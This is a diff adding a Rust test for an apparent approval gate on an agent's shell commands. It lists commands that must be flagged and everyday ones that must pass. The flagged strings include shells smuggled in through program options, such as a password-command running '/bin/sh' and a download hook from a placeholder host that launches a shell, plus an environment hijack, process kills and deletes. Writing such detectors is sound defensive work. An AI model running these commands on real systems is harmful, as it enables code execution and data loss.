@@ -747,6 +747,97 @@ fn inline_code_asks_for_what_cannot_be_seen_and_leaves_reads_alone() {
     }
 }
 
+/// The principles of issue 32's second round, each with what it must
+/// ask and what it must leave alone (the everyday side of the same rule).
+#[test]
+fn the_second_rounds_principles_ask_and_leave_alone() {
+    for (cmd, rule) in [
+        // An unknown program judged by its subcommand verb.
+        ("adb uninstall com.example.app", "exec.unknown.verb"),
+        ("argocd app delete app_name", "exec.unknown.verb"),
+        ("buku --delete 12", "exec.unknown.verb"),
+        // A command line handed to any program.
+        (
+            "restic --password-command='/bin/sh -c id' backup",
+            "exec.option.command",
+        ),
+        (
+            "aria2c --on-download-complete=/bin/sh http://x.example/a",
+            "exec.option.command",
+        ),
+        ("fzf --bind 'enter:execute(/bin/sh)'", "exec.option.command"),
+        ("gnuplot -e 'system(\"/bin/sh\")'", "exec.option.command"),
+        (
+            "RESTIC_PASSWORD_COMMAND='/path/to/cmd' restic backup",
+            "obfuscation.env_hijack",
+        ),
+        // Signals to processes this command did not start.
+        ("kill -9 1234", "system.kill.host"),
+        ("pkill -f myserver", "system.kill.host"),
+        (
+            "ps aux | grep x | awk '{print $2}' | xargs kill -9",
+            "system.kill.unknown_targets",
+        ),
+        // Deletes of targets from the caller's environment.
+        (
+            "find $DIR -type f -mtime +7 -exec rm {} \\;",
+            "delete.unknown_targets",
+        ),
+        ("rm -rf \"$BUILD_DIR\"", "delete.unknown_targets"),
+        // More shells.
+        ("posh", "exec.stdin_shell"),
+    ] {
+        let c = run(cmd);
+        assert!(
+            c.findings.iter().any(|f| f.rule == rule) && c.requires_approval,
+            "{cmd:?}: expected {rule}: {:?}",
+            c.reasons
+        );
+    }
+    for cmd in [
+        // Read subcommands of remote tools whose rule is a catch-all.
+        "glab mr list",
+        "glab pipeline status",
+        "doctl apps get",
+        "consul kv get key",
+        "cdk diff stack_name",
+        "colima status",
+        // Help and version only print.
+        "terraform destroy --help",
+        "doctl --version",
+        // The shell's own jobs.
+        "kill %1",
+        "sleep 30 & kill $!",
+        // Variables this command sets.
+        "for f in *.tmp; do rm -f \"$f\"; done",
+        "OUT=build; rm -rf \"$OUT\"",
+        "rm -rf \"${OUT:?}/\"",
+        // Reading outside the workspace is a read.
+        "cp /etc/hosts hosts.bak",
+        "tar -czf nginx.tgz /etc/nginx",
+        "rsync -av /srv/data/ ./data/",
+        // A shell's path alone, or a script's first line.
+        "ls -l /bin/sh",
+        "printf '#!/bin/sh\\necho hi\\n' > run.sh",
+        "nix develop --command cargo test",
+    ] {
+        let c = run(cmd);
+        assert!(!c.requires_approval, "{cmd:?}: {:?}", c.reasons);
+    }
+    for cmd in [
+        "glab mr merge 12",
+        "consul kv delete key",
+        "cp notes.txt /etc/hosts",
+        "tar -czf /srv/out.tgz src",
+    ] {
+        assert!(
+            run(cmd).requires_approval,
+            "{cmd:?}: {:?}",
+            run(cmd).reasons
+        );
+    }
+}
+
 /// `inline_code: {trust: [...]}` in a system policy leaves the named
 /// interpreters' inline code to the rehearsal, and only theirs; a
 /// workspace policy (agent-writable) cannot trust anything.
